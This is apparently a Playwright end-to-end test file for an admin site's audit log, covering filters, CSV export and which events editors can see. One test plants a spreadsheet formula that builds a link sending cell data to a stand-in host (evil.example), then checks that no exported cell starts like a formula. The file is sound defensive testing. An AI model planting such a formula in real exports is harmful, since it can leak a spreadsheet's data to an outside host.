import { expect, test } from "@playwright/test";
import { sql } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { adminUrl } from "../src/env";
import { createTopic, deleteTopic } from "@gp/db/topics";
import { adminDb, closeAdminDb, editorContext, formStatus } from "./admin-helpers";

test.afterAll(closeAdminDb);

test("the audit log filters by user, action and date, and downloads as CSV", async ({ page, browser }) => {
  // The editor makes a change, so there is something of theirs to find.
  const [practice] = await adminDb().execute<{ id: number }>(
    sql`select id from practices where status = 'published' order by id desc limit 1`,
  );
  const editor = await editorContext(browser);
  const editorPage = await editor.newPage();
  await editorPage.goto(`${adminUrl}/practices/${practice!.id}`);
  await editorPage.getByLabel("Language").selectOption({ label: "English" });
  await editorPage.getByRole("button", { name: "Save changes" }).click();
  await expect(formStatus(editorPage)).toContainText("Saved as version");
  await editor.close();

  await page.goto(`${adminUrl}/audit`);
  await page.getByLabel("User").selectOption({ label: "editor@e2e.test" });
  await page.getByLabel("Action").selectOption("practice.update");
  // The UTC day the database recorded the save on, not the test's clock: a run may cross midnight.
  const [saved] = await adminDb().execute<{ day: string }>(
    sql`select to_char(at at time zone 'UTC', 'YYYY-MM-DD') as day from audit_events
        where action = 'practice.update' and subject_id = ${practice!.id} order by id desc limit 1`,
  );
  const day = saved!.day;
  await page.getByLabel("From (UTC day)").fill(day);
  await page.getByLabel("To (UTC day, included)").fill(day);
  await page.getByRole("button", { name: "Apply" }).click();
  const rows = page.getByRole("table", { name: /Audit events/ }).getByRole("row");
  await expect(rows).toHaveCount(2);
  await expect(rows.nth(1)).toContainText("editor@e2e.test");
  await expect(rows.nth(1)).toContainText(`practice #${practice!.id}`);
  await expect(rows.nth(1)).toContainText('"language":"en"');

  // Another day: nothing.
  await page.getByLabel("From (UTC day)").fill("2001-01-01");
  await page.getByLabel("To (UTC day, included)").fill("2001-01-02");
  await page.getByRole("button", { name: "Apply" }).click();
  await expect(page.getByText("No event matches these filters.")).toBeVisible();

  const download = await page.request.get(`${adminUrl}/api/audit/export?action=practice.update&from=${day}&to=${day}`);
  expect(download.status()).toBe(200);
  expect(download.headers()["content-type"]).toContain("text/csv");
  const records = parse(await download.text(), { columns: true }) as Array<Record<string, string>>;
  expect(
    records.some(
      (r) =>
        r.user === "editor@e2e.test" && r.subject_id === String(practice!.id) && r.after!.includes('"language":"en"'),
    ),
  ).toBe(true);
  expect(records.every((r) => r.action === "practice.update")).toBe(true);
});

test("a topic renamed to a spreadsheet formula comes out inert in the audit CSV", async ({ page }) => {
  const [admin] = await adminDb().execute<{ id: number }>(sql`select id from users where email = 'admin@e2e.test'`);
  const topic = await createTopic(adminDb(), { name: "Formula bait", parentId: null, actorId: admin!.id });
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
  await page.goto(`${adminUrl}/topics`);
  const panel = page.locator("details", { has: page.getByText("Edit Formula bait") });
  await panel.locator("summary").click();
  await panel.getByLabel("New name").fill(formula);
  await panel.getByRole("button", { name: "Rename" }).click();
  await expect(page.getByText(`Renamed to “${formula}”`)).toBeVisible();

  const download = await page.request.get(`${adminUrl}/api/audit/export?action=topic.rename`);
  const text = await download.text();
  const records = parse(text, { columns: true }) as Array<Record<string, string>>;
  const renamed = records.find((r) => r.subject_id === String(topic.id));
  expect(JSON.parse(renamed!.after!)).toEqual({ name: formula });
  // No cell of any record starts as a formula would (= + - @, a tab or a carriage return).
  for (const record of records)
    for (const [column, cell] of Object.entries(record)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
  await deleteTopic(adminDb(), { id: topic.id, actorId: admin!.id });
});

test("an editor sees no events about user accounts and no user filter; an admin does", async ({ page, browser }) => {
  await page.goto(`${adminUrl}/audit`);
  await expect(page.getByLabel("User")).toBeVisible();
  await expect(page.getByLabel("Action").locator("option", { hasText: "user.create" })).toHaveCount(1);
  const adminCsv = parse(await (await page.request.get(`${adminUrl}/api/audit/export?action=user.create`)).text(), {
    columns: true,
  }) as Array<Record<string, string>>;
  expect(adminCsv.map((r) => JSON.parse(r.after!).email)).toEqual(
    expect.arrayContaining(["admin@e2e.test", "editor@e2e.test"]),
  );

  const editor = await editorContext(browser);
  const editorPage = await editor.newPage();
  const [admin] = await adminDb().execute<{ id: number }>(sql`select id from users where email = 'admin@e2e.test'`);
  await editorPage.goto(`${adminUrl}/audit?action=user.create&user=${admin!.id}`);
  await expect(editorPage.getByRole("heading", { level: 1 })).toHaveText("Audit log");
  await expect(editorPage.getByLabel("User")).toHaveCount(0);
  await expect(editorPage.getByLabel("Action").locator("option", { hasText: "user." })).toHaveCount(0);
  await expect(editorPage.getByText("No event matches these filters.")).toBeVisible();
  await editorPage.goto(`${adminUrl}/audit?size=200`);
  await expect(editorPage.getByRole("table", { name: /Audit events/ })).not.toContainText("user.");
  const editorCsv = async (query: string) => {
    const csv = await editorPage.request.get(`${adminUrl}/api/audit/export?${query}`);
    expect(csv.status()).toBe(200);
    return parse(await csv.text(), { columns: true }) as Array<Record<string, string>>;
  };
  expect(await editorCsv("action=user.create")).toEqual([]);
  const all = await editorCsv("");
  expect(all.length).toBeGreaterThan(0);
  expect(all.filter((r) => r.subject_type === "user")).toEqual([]);
  // The user filter is not an editor's: asking for one user's events gives the same as asking for none.
  expect(await editorCsv(`user=${admin!.id}`)).toEqual(all);
  await editor.close();
});
